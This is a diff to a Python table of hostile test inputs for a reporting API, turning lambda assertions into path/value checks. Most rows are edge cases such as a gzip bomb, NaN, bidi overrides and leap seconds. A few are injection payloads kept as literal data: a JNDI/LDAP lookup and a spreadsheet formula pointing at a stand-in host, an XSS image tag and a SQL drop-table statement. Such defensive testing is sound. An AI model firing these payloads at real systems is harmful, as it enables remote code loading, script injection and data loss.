@@ -1,11 +1,10 @@
 """The hostile inputs of the security paper, §5, by the numbers they have there: what is sent, what is answered."""
 
 import json
-from collections.abc import Callable, Sequence
+from collections.abc import Sequence
 from datetime import UTC, datetime, timedelta
 from typing import Any, NamedTuple
 
-Report = dict[str, Any]
 Change = dict[str, Any]
 
 
@@ -42,9 +41,10 @@ class Refused(NamedTuple):
 
 
 class Kept(NamedTuple):
-    """It is a check now; what its country reads of it."""
+    """It is a check now, and its country reads this value at this place of it."""
 
-    reads: Callable[[Report], object] = lambda kept: True
+    place: str = "version"
+    value: object = 1
 
 
 class Closed(NamedTuple):
@@ -90,10 +90,6 @@ def when(text: str) -> Change:
     return {"occurred_at": text}
 
 
-def text_of(field: str) -> Callable[[Report], object]:
-    return lambda kept: kept[field]
-
-
 LINE_1 = "P<UTOERIKSSON<<ANNA<MARIA<<<<<<<<<<<<<<<<<<<"
 LINE_2 = "L898902C36UTO7408122F1204159ZE184226B<<<<<10"
 """The specimen of ICAO 9303 part 4, appendix A."""
@@ -122,7 +118,7 @@ ROWS = [
     Row(9, "a gzip bomb", Body(b"\x1f\x8b" + bytes(9000), {"content-encoding": "gzip"}), Refused(415)),
     Row(10, "text/plain", Body(b"{}", {"content-type": "text/plain"}), Refused(415)),
     Row(11, "2^63", Body(b'{"position": {"lon": 9223372036854775808, "lat": 0}}'), Refused(400)),
-    Row(11, "-0", Check(at(0.0001, -0.0)), Kept(lambda kept: kept["position"]["lat"] == 0)),
+    Row(11, "-0", Check(at(0.0001, -0.0)), Kept("position/lat", 0)),
     Row(11, "a decimal for a truth", Check({"as_printed": 1.0}), Refused(422, "/as_printed")),
     Row(13, "uuid nil", Check({"id": "00000000-0000-0000-0000-000000000000"}), Refused(422, "/id")),
     Row(13, "uuid all f", Check({"id": "ffffffff-ffff-ffff-ffff-ffffffffffff"}), Refused(422, "/id")),
@@ -140,7 +136,7 @@ ROWS = [
         18,
         "a wrong digit, seen as printed",
         Check({**passport(LINE_1, "L898902C37" + LINE_2[10:]), "as_printed": True}),
-        Kept(lambda kept: kept["as_printed"] and kept["subject"]["documents"][0]["mrz"][1].startswith("L898902C37")),
+        Kept("subject/documents/0/mrz/1", "L898902C37" + LINE_2[10:]),
     ),
     Row(19, "`<` as the digit of an empty field", Check(passport(LINE_1, EMPTY_OPTIONAL[:42] + "<8")), Kept()),
     Row(
@@ -171,27 +167,25 @@ ROWS = [
     Row(24, "the text nan", Check(at("nan", 0)), Refused(422, "/position/lon")),
     Row(24, "-Infinity", Body(b'{"position": {"lon": -Infinity, "lat": 0}}'), Refused(400)),
     Row(25, "beyond the pole", Check(at(0, 90.0000001)), Refused(422, "/position/lat")),
-    Row(25, "the pole", Check(at(12, 90)), Kept(lambda kept: kept["position"]["lat"] == 90)),
-    Row(
-        26, "the date line from both sides", Check(at(-180, 10)), Kept(lambda kept: abs(kept["position"]["lon"]) == 180)
-    ),
-    Row(27, "lat and lon swapped", Check(at(16.27, -0.04)), Kept(lambda kept: kept["doubts"] == ["swapped"])),
-    Row(27, "far from the post", Check(at(30, -30)), Kept(lambda kept: kept["doubts"] == ["far-from-post"])),
-    Row(27, "beside the post", Check(at(-0.05, 16.3)), Kept(lambda kept: kept["doubts"] == [])),
-    Row(28, "0, 0", Check(at(0, 0)), Kept(lambda kept: kept["doubts"] == ["null-island"])),
+    Row(25, "the pole", Check(at(12, 90)), Kept("position/lat", 90)),
+    Row(26, "the date line from both sides", Check(at(-180, 10)), Kept("position/lon", -180)),
+    Row(27, "lat and lon swapped", Check(at(16.27, -0.04)), Kept("doubts", ["swapped"])),
+    Row(27, "far from the post", Check(at(30, -30)), Kept("doubts", ["far-from-post"])),
+    Row(27, "beside the post", Check(at(-0.05, 16.3)), Kept("doubts", [])),
+    Row(28, "0, 0", Check(at(0, 0)), Kept("doubts", ["null-island"])),
     Row(29, "accuracy -1", Check(at(0, 0, accuracy_m=-1)), Refused(422, "/position/accuracy_m")),
     Row(29, "accuracy 1e9", Check(at(0, 0, accuracy_m=1e9)), Refused(422, "/position/accuracy_m")),
     Row(
         30,
         "overrides of direction",
         Check(person("A\u202ewa \u2066Diarra\u2069")),
-        Kept(lambda k: k["subject"]["names"] == ["Awa Diarra"]),
+        Kept("subject/names/0", "Awa Diarra"),
     ),
     Row(
         31,
         "zero width and soft hyphen",
         Check(person("A\u200bwa Di\u00adarra")),
-        Kept(lambda k: k["subject"]["names"] == ["A\u200bwa Di\u00adarra"]),
+        Kept("subject/names/0", "A\u200bwa Di\u00adarra"),
     ),
     Row(32, "10 kB", Check(person("a" * 10_000)), Refused(422, "/subject/names/0")),
     Row(32, "200 ligatures of 18 letters", Check(person("\ufdfa" * 200)), Refused(422, "/subject")),
@@ -203,19 +197,34 @@ ROWS = [
     Row(34, "nothing but emoji", Check(person("😀😀")), Refused(422, "/subject/names/0")),
     Row(34, "nothing after cleaning", Check(person("\u202e\u0007")), Refused(422, "/subject/names/0")),
     Row(35, "U+0000", Body(b'{"note": "a\\u0000"}'), Refused(400)),
-    Row(35, "a C1 control", Check(person("Awa\u0085 Diarra")), Kept(lambda k: k["subject"]["names"] == ["Awa Diarra"])),
+    Row(35, "a C1 control", Check(person("Awa\u0085 Diarra")), Kept("subject/names/0", "Awa Diarra")),
     Row(35, "half a character", Body(b'{"note": "a\\ud800"}'), Refused(400)),
     Row(
         36,
         "a Cyrillic letter among Latin ones",
         Check(person("Аwa Diarra")),
-        Kept(lambda k: k["subject"]["names"] == ["Аwa Diarra"]),
+        Kept("subject/names/0", "Аwa Diarra"),
     ),
-    Row(37, "a formula", Check({"note": '=HYPERLINK("https://elsewhere.example")'}), Kept(text_of("note"))),
-    Row(37, "a script", Check({"note": "<img src=x onerror=alert(1)>"}), Kept(text_of("note"))),
-    Row(37, "a look-up", Check({"note": "${jndi:ldap://elsewhere.example}"}), Kept(text_of("note"))),
-    Row(37, "a statement", Check({"note": "'; drop table ops.check_report; --"}), Kept(text_of("note"))),
-    Row(38, "nine minutes ahead", Check(when(LATER)), Kept(lambda kept: kept["clock_suspect"])),
+    Row(
+        37,
+        "a formula",
+        Check({"note": '=HYPERLINK("https://elsewhere.example")'}),
+        Kept("note", '=HYPERLINK("https://elsewhere.example")'),
+    ),
+    Row(37, "a script", Check({"note": "<img src=x onerror=alert(1)>"}), Kept("note", "<img src=x onerror=alert(1)>")),
+    Row(
+        37,
+        "a look-up",
+        Check({"note": "${jndi:ldap://elsewhere.example}"}),
+        Kept("note", "${jndi:ldap://elsewhere.example}"),
+    ),
+    Row(
+        37,
+        "a statement",
+        Check({"note": "'; drop table ops.check_report; --"}),
+        Kept("note", "'; drop table ops.check_report; --"),
+    ),
+    Row(38, "nine minutes ahead", Check(when(LATER)), Kept("clock_suspect", True)),
     Row(39, "before 1900", Check(when("1899-12-31T23:59:59Z")), Refused(422, "/occurred_at")),
     Row(39, "the year 1", Check(when("0001-01-01T00:00:00Z")), Refused(422, "/occurred_at")),
     Row(39, "the year 9999", Check(when("9999-12-31T23:59:59Z")), Refused(422, "/occurred_at")),
@@ -225,7 +234,7 @@ ROWS = [
         40,
         "a leap second",
         Check(when("2016-12-31T23:59:60Z")),
-        Kept(lambda k: k["occurred_at"].startswith("2016-12-31T23:59:59.999")),
+        Kept("occurred_at", "2016-12-31T23:59:59.999000Z"),
     ),
     Row(40, "a second 61", Check(when("2016-12-31T23:59:61Z")), Refused(422, "/occurred_at")),
     Row(41, "no zone", Check(when("2026-11-25T10:00:00")), Refused(422, "/occurred_at")),
@@ -234,7 +243,7 @@ ROWS = [
         42,
         "an hour that a zone leaves out",
         Check(when("2026-03-29T02:30:00+01:00")),
-        Kept(lambda k: k["occurred_at"] == "2026-03-29T01:30:00Z"),
+        Kept("occurred_at", "2026-03-29T01:30:00Z"),
     ),
     Row(43, "no hello", Frames([]), Closed(4408)),
     Row(43, "64 KiB and more", Frames(['{"type":"hello","topics":["' + "x" * 70_000 + '"]}']), Closed(4413)),
